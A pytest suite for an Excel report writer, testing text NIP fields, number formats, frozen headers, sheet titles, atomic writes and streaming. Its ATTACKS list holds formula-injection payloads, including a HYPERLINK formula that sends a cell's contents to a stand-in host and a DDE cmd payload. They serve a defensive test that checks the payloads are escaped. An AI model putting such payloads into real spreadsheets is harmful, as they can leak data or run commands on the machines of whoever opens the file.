"""The generic Excel writer of reports: text NIPs, no formulas, formats, frozen header, filter."""

import io
import tracemalloc
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reports.xlsx import Sheet, sheet_title, write_workbook, xlsx_response

ATTACKS = ['=HYPERLINK("http://x/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx"]
NIP = "198503122010011001"


def _book(sheets):
    buffer = io.BytesIO()
    write_workbook(buffer, sheets)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def test_headers_rows_and_nip_as_text():
    book = _book(
        [
            Sheet(
                "Rekap", ["NIP", "Nama", "Nilai"], [[NIP, "Ani", Decimal("101.25")], [None, "B", 3]]
            )
        ]
    )
    ws = book["Rekap"]
    rows = [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]
    assert rows[0] == [("NIP", "s"), ("Nama", "s"), ("Nilai", "s")]
    assert rows[1] == [(NIP, "s"), ("Ani", "s"), (101.25, "n")]
    assert ws["A2"].number_format == "@"
    assert rows[2][0] == (None, "n") or rows[2][0][0] in ("", None)
    assert all(c.font.bold for c in ws[1])


def test_a_number_given_for_a_text_column_is_still_written_as_text():
    book = _book(
        [Sheet("S", ["NIP", "Kode"], [[198503122010011001, 7]], text_columns={"NIP", "Kode"})]
    )
    ws = book["S"]
    assert (ws["A2"].value, ws["A2"].data_type) == (NIP, "s")
    assert (ws["B2"].value, ws["B2"].data_type) == ("7", "s")


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_is_written_as_a_formula(text):
    ws = _book([Sheet("S", ["NIP", "Nama", text], [[text, text, 1]])])["S"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    assert ws["A2"].value == "'" + text
    assert ws["B2"].value == "'" + text
    assert ws["C1"].value == "'" + text


def test_numbers_keep_their_sign_and_formats_apply_per_header():
    sheet = Sheet(
        "S",
        ["Nama", "Nilai", "Angka Kredit"],
        [["x", Decimal("-12.5"), Decimal("18.750")]],
        number_formats={"Nilai": "0.00", "Angka Kredit": "0.000"},
    )
    ws = _book([sheet])["S"]
    assert (ws["B2"].value, ws["B2"].data_type, ws["B2"].number_format) == (-12.5, "n", "0.00")
    assert (ws["C2"].value, ws["C2"].number_format) == (18.75, "0.000")
    assert ws["A2"].number_format == "General"


def test_frozen_header_auto_filter_and_widths():
    rows = [[NIP, "Nama yang cukup panjang sekali", i] for i in range(5)]
    ws = _book([Sheet("S", ["NIP", "Nama", "N"], rows, widths={"N": 30})])["S"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:C6"
    assert ws.column_dimensions["A"].width >= 21
    assert ws.column_dimensions["B"].width >= len("Nama yang cukup panjang sekali")
    assert ws.column_dimensions["C"].width == 30


def test_several_sheets_get_valid_unique_titles():
    book = _book(
        [Sheet("Dinas/Kesehatan [UPT]", ["A"], [[1]]), Sheet("Dinas Kesehatan  UPT", ["A"], [])]
    )
    assert book.sheetnames == ["Dinas Kesehatan UPT", "Dinas Kesehatan UPT (2)"]
    assert book.worksheets[1].max_row == 1
    assert sheet_title("x" * 40) == "x" * 31


def test_an_empty_workbook_still_opens():
    assert _book([]).sheetnames == ["Data"]


def test_a_row_of_the_wrong_length_is_refused():
    with pytest.raises(ValueError, match="expected 2"):
        _book([Sheet("S", ["A", "B"], [[1]])])


def test_writing_to_a_path_is_atomic(tmp_path):
    target = tmp_path / "rekap.xlsx"
    target.write_bytes(b"old")

    def broken_rows():
        yield [NIP]
        raise RuntimeError("database gone")

    with pytest.raises(RuntimeError):
        write_workbook(target, [Sheet("S", ["NIP"], broken_rows())])
    assert target.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [target]
    assert write_workbook(target, [Sheet("S", ["NIP"], [[NIP], [NIP]])]) == 2
    assert load_workbook(target)["S"]["A3"].value == NIP


def test_rows_stream_from_a_generator_in_bounded_memory(tmp_path):
    """Ten times the rows must not need anything like ten times the memory."""

    def rows(n):
        for i in range(n):
            yield [f"{i:018d}", f"Pegawai {i}", Decimal(i) / 7]

    def peak(n):
        tracemalloc.start()
        write_workbook(tmp_path / f"{n}.xlsx", [Sheet("S", ["NIP", "Nama", "Nilai"], rows(n))])
        _current, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    small, large = peak(2_000), peak(20_000)
    assert large < small * 3
    book = load_workbook(tmp_path / "20000.xlsx", read_only=True)
    assert sum(1 for _row in book["S"].iter_rows(values_only=True)) == 20_001
    book.close()


def test_xlsx_response_is_an_attachment(db):  # closing a response signals request_finished
    response = xlsx_response("rekap.xlsx", [Sheet("S", ["NIP"], [[NIP]])])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'attachment; filename="rekap.xlsx"' in response["Content-Disposition"]
    content = b"".join(response.streaming_content)
    response.close()
    assert load_workbook(io.BytesIO(content))["S"]["A2"].value == NIP


def test_the_bare_baseline_writes_the_same_values(tmp_path):
    from reports.xlsx import write_bare

    rows = [[NIP, "Ani", Decimal("1.5")], [NIP, "Budi", None]]
    assert write_bare(tmp_path / "b.xlsx", [Sheet("S", ["NIP", "Nama", "Nilai"], rows)]) == 2
    bare = [[c.value for c in r] for r in load_workbook(tmp_path / "b.xlsx")["S"].iter_rows()]
    ours = [
        [c.value for c in r]
        for r in _book([Sheet("S", ["NIP", "Nama", "Nilai"], rows)])["S"].iter_rows()
    ]
    assert bare == ours
